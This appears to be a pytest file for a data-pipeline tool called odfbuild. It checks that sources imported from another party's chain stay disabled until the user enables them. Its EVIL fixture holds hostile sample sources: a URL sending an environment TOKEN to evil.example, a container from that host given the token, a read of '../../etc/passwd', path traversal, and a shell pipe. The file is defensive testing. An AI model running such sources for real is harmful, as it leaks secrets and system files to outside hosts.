"""Chains of strangers that are taken in: what their definitions would run and read."""

import shutil
from collections.abc import Callable
from pathlib import Path

import pytest

from odfbuild.odf.events import (
    EnvVar,
    FetchStep,
    FetchStepContainer,
    FetchStepFilesGlob,
    FetchStepUrl,
    PrepStep,
    PrepStepPipe,
    SetPollingSource,
)
from odfbuild.state.disabled import (
    DisabledSourcesError,
    disable,
    disabled_folders,
    is_disabled,
    mark_of,
)
from tests.support.engines import FakeEngine
from tests.support.process.inside import Inside, lay_out
from tests.support.projects.market import append, dataset
from tests.support.projects.texts import GOOD, root

GLOB = FetchStepFilesGlob(path="data/*.csv")
EVIL: dict[str, tuple[FetchStep, tuple[PrepStep, ...]]] = {
    "a program": (GLOB, (PrepStepPipe(("sh", "-c", "cat; touch ran")),)),
    "an unpacker that is none": (GLOB, (PrepStepPipe(("xz", "-dc", "../../etc/passwd")),)),
    "a server": (FetchStepUrl(url="https://evil.example/x"), ()),
    "the environment": (FetchStepUrl(url="https://evil.example/?${{ env.TOKEN }}"), ()),
    "files beside": (FetchStepFilesGlob(path="../**/*.csv"), ()),
    "a container": (FetchStepContainer(image="evil.example/x", env=(EnvVar("TOKEN"),)), ()),
}
Take = Callable[[FetchStep, tuple[PrepStep, ...]], Path]


@pytest.fixture(scope="module")
def theirs(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return a project with one dataset and rows."""
    files = {"odfbuild.yaml": "odfbuild: 1\n", "datasets/src.yaml": root(), "data/1.csv": GOOD}
    folder = lay_out(tmp_path_factory.mktemp("theirs") / "project", files)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(
            "odfbuild.executors.engine.spark.engine.SparkEngine", lambda *_, **__: FakeEngine()
        )
        from odfbuild import app

        project = app.open_project(folder)
        app.apply(project, app.make(project))
    return folder


@pytest.fixture
def chain(theirs: Path, tmp_path: Path) -> Take:
    """Return what puts another source into a copy of their chain, and gives its folder."""

    def made(fetch: FetchStep, prepare: tuple[PrepStep, ...]) -> Path:
        project = shutil.copytree(theirs, tmp_path / "theirs")
        found = dataset(project, "src")
        state = found.state()
        assert state is not None
        assert state.polling is not None
        append(project, "src", replace_source(state.polling, fetch, prepare))
        return project / ".odfbuild" / "datasets" / found.id.multibase

    return made


def replace_source(
    source: SetPollingSource, fetch: FetchStep, prepare: tuple[PrepStep, ...]
) -> SetPollingSource:
    return SetPollingSource(
        fetch=fetch, prepare=prepare or None, read=source.read, merge=source.merge
    )


@pytest.fixture
def ours(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> Inside:
    project = lay_out(tmp_path / "ours", {
        "odfbuild.yaml": "odfbuild: 1\nname: ours\n", "data/9.csv": GOOD,
    })  # fmt: skip
    return Inside(project, capsys, monkeypatch, FakeEngine())


@pytest.mark.holds("chain-sources")
@pytest.mark.parametrize(("fetch", "prepare"), EVIL.values(), ids=EVIL)
def test_a_source_of_a_chain_that_was_imported_does_nothing(
    chain: Take, ours: Inside, fetch: FetchStep, prepare: tuple[PrepStep, ...]
) -> None:
    done = ours("import", str(chain(fetch, prepare)))
    assert done.code == 0, done.err
    assert "Its source uses resources outside of the project" in done.out
    assert "disabled until you enable it: odfbuild import src --with-sources" in done.out
    before = dataset(ours.project, "src").head()
    for command in (("apply", "--yes"), ("run",)):
        done = ours(*command)
        assert done.code == 0, done.err
        assert dataset(ours.project, "src").head() == before
    assert not (ours.project / "ran").exists()
    assert "source-disabled" in ours("plan").out
    (ours.project / "datasets" / "src.yaml").write_text(
        (ours.project / "datasets" / "src.yaml").read_text().replace("kind: Csv", "kind:  Csv")
    )
    assert "source-disabled" in ours("plan").out


@pytest.mark.holds("chain-sources")
@pytest.mark.parametrize(("fetch", "prepare"), EVIL.values(), ids=EVIL)
def test_a_source_that_a_longer_copy_brings_does_nothing(
    theirs: Path, chain: Take, ours: Inside, fetch: FetchStep, prepare: tuple[PrepStep, ...]
) -> None:
    id = dataset(theirs, "src").id
    done = ours("import", str(theirs / ".odfbuild" / "datasets" / id.multibase))
    assert done.code == 0, done.err
    assert disabled_folders(ours.project / ".odfbuild") == {}
    longer = chain(fetch, prepare)
    done = ours("import", str(longer))
    assert done.code == 0, done.err
    assert "src gets 1 block from " in done.out
    assert "disabled until you enable it: odfbuild import src --with-sources" in done.out
    before = dataset(ours.project, "src").head()
    assert ours("run").code == 0
    assert dataset(ours.project, "src").head() == before
    assert not (ours.project / "ran").exists()


@pytest.mark.holds("chain-sources")
def test_it_is_used_when_its_user_says_so(chain: Take, ours: Inside) -> None:
    folder = chain(*EVIL["a program"])
    assert ours("import", str(folder)).code == 0
    done = ours("import", "src", "--with-sources")
    assert (done.code, done.out) == (0, "The source of src is enabled.\n"), done.err
    done = ours("plan")
    assert "source-disabled" not in done.out
    assert "runs       the program sh -c cat; touch ran" in done.out
    assert disabled_folders(ours.project / ".odfbuild") == {}


@pytest.mark.holds("chain-sources")
def test_it_may_be_used_at_once(chain: Take, ours: Inside) -> None:
    done = ours("import", str(chain(*EVIL["a server"])), "--with-sources")
    assert done.code == 0
    assert "host       evil.example" in done.out
    assert "source-disabled" not in ours("plan").out


@pytest.mark.holds("chain-sources")
def test_what_cannot_be_read_of_a_mark_disables(theirs: Path, tmp_path: Path) -> None:
    state = dataset(theirs, "src").state()
    assert state is not None
    assert state.polling is not None
    place = tmp_path / "disabled" / state.dataset.multibase
    disable(tmp_path, state.dataset, state.polling)
    assert is_disabled(disabled_folders(tmp_path), state.dataset, state.polling)
    for text in ("", "x", mark_of(state.polling)[:-1], "\0" * 9):
        place.write_text(text)
        assert is_disabled(disabled_folders(tmp_path), state.dataset, state.polling)
    other = replace_source(state.polling, FetchStepUrl(url="https://mine.example"), ())
    disable(tmp_path, state.dataset, other)
    assert not is_disabled(disabled_folders(tmp_path), state.dataset, state.polling)


@pytest.mark.holds("chain-sources")
def test_a_plan_of_before_uses_it_no_more(chain: Take, ours: Inside) -> None:
    assert ours("import", str(chain(*EVIL["a program"])), "--with-sources").code == 0
    plan = str(ours.project / "plan.json")
    assert ours("plan", "--out", plan).code == 0
    source = dataset(ours.project, "src").state()
    assert source is not None
    assert source.polling is not None
    disable(ours.project / ".odfbuild", source.dataset, source.polling)
    done = ours("apply", plan)
    assert (done.code, "error[source-disabled]" in done.err) == (1, True), done
    assert not (ours.project / "ran").exists()


@pytest.mark.holds("chain-sources")
def test_marks_that_cannot_be_listed_enable_nothing(tmp_path: Path) -> None:
    (tmp_path / "disabled").write_text("")
    with pytest.raises(DisabledSourcesError):
        disabled_folders(tmp_path)
